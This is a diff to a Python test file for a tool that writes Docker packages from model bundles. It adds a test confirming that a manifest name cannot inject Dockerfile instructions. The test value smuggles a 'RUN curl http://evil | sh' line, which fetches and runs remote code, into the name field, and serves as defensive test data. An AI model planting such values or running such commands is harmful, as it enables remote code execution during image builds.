@@ -10,6 +10,7 @@ import subprocess
 import sys
 import threading
 import zipfile
+from dataclasses import replace
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
@@ -68,6 +69,17 @@ def test_nothing_is_written_when_it_runs(folder: Path) -> None:
     page = (folder / "README.md").read_text(encoding="utf-8")
     assert "docker run --rm --gpus all --read-only --tmpfs /tmp" in page
     assert any("PYTHONDONTWRITEBYTECODE=1" in value for value in values(folder, "ENV"))
+
+
+def test_no_name_is_an_instruction(tmp_path: Path) -> None:
+    """Even of a bundle that nobody read from a file, which would have been refused."""
+    opened = Bundle.open(write_bundle(tmp_path / "bundle", RTX))
+    evil = replace(opened.manifest, name="x\nRUN curl http://evil | sh\n#")
+    (tmp_path / "package").mkdir()
+    place_named("docker").write(
+        replace(opened, manifest=evil), tmp_path / "package", PackageChoices()
+    )
+    assert all("curl" not in value for value in values(tmp_path / "package", "RUN"))
 
 
 def test_what_is_copied_is_there_and_the_context_has_no_more(folder: Path) -> None:
